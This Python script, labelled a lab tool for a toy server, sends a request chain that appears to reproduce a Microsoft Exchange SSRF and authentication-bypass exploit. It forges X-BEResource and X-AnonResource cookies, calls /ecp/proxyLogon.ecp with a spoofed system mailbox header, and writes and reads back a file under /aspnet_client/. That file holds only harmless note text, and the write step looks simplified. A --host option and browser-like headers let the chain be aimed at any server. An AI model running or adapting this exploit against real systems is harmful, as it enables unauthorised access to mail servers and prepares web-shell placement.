# ruff: noqa
"""Lab request chain; every knob is a command-line option with the lab's default (toy server only)."""

import argparse
import http.client
import json
import urllib.parse


def options(argv=None):
    ap = argparse.ArgumentParser(description="benign lab chain, toy server only")
    ap.add_argument("port", nargs="?", type=int, default=8080)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument(
        "--agent",
        default="Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
    )
    ap.add_argument("--backend", default="localhost")
    ap.add_argument("--domain", default="lab.invalid")
    ap.add_argument("--mailbox", default="administrator@lab.invalid")
    ap.add_argument("--ticket", default="~1843073522")
    ap.add_argument("--note", default="/aspnet_client/system_web/readme_91453.txt")
    ap.add_argument("--request-id", dest="request_id", default="20200302-7720")
    ap.add_argument("--pad", type=int, default=37)
    ap.add_argument("--lines", type=int, default=3)
    ap.add_argument("--timeout", type=float, default=10.0)
    ap.add_argument("--retries", type=int, default=5)
    return ap.parse_args(argv)


def browser(opts):
    return [
        ("User-Agent", opts.agent),
        ("x-requested-with", "XMLHttpRequest"),
        ("Accept", "*/*"),
        ("accept-language", "en-US,en;q=0.9"),
        ("connection", "close"),
    ]


def exchange(conn, opts, method, target, header_pairs, body=None):
    for _ in range(opts.retries):
        try:
            conn.putrequest(method, target)
            if body is not None:
                conn.putheader("Content-Length", str(len(body)))
            for name, value in header_pairs:
                conn.putheader(name, value)
            conn.endheaders(body)
            resp = conn.getresponse()
            return resp.status, resp.read(1024)
        except (OSError, http.client.HTTPException):
            conn.close()
    raise SystemExit("toy server did not answer")


def main(argv=None):
    opts = options(argv)
    conn = http.client.HTTPConnection(opts.host, opts.port, timeout=opts.timeout)
    backend = "%s@%s/ews/exchange.asmx?a=%s" % (opts.backend, opts.domain, opts.ticket)
    cookie = "; ".join(
        (
            "X-AnonResource=true",
            "X-AnonResource-Backend=%s" % opts.domain,
            "X-BEResource=%s" % urllib.parse.quote(backend, safe="@/~?"),
        )
    )
    query = urllib.parse.urlencode(
        [
            ("Pad", "A" * opts.pad),
            ("Protocol", "Autodiscoverv1"),
            ("Email", "%s/mapi/nspi" % opts.mailbox),
            ("RequestId", opts.request_id),
        ]
    )
    status, _ = exchange(
        conn,
        opts,
        "GET",
        "/autodiscover/autodiscover.json?" + query,
        browser(opts) + [("cookie", cookie)],
    )
    if status >= 500:
        return 1
    body = json.dumps({"mailbox": opts.mailbox, "requestKind": "identity", "seq": 1}).encode()
    status, data = exchange(
        conn,
        opts,
        "POST",
        "/ecp/proxyLogon.ecp",
        [
            ("user-agent", opts.agent),
            ("msexchlogonmailbox", "S-1-5-20"),
            ("content-type", "application/json"),
            ("X-BEResource", "%s@%s/ecp/proxyLogon.ecp" % (opts.backend, opts.domain)),
        ],
        body,
    )
    who = data.decode("utf-8", "replace").strip() if status == 200 else ""
    who = who or "anonymous"
    text = "\n".join("note %d of %d for %s" % (i + 1, opts.lines, who) for i in range(opts.lines))
    exchange(
        conn,
        opts,
        "POST",
        opts.note,
        [("user-agent", opts.agent), ("X-Note-Path", opts.note), ("Content-Type", "text/plain")],
        text.encode(),
    )
    status, data = exchange(conn, opts, "GET", opts.note, browser(opts))
    print(json.dumps({"identity": who, "read_back": len(data)}))
    conn.close()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
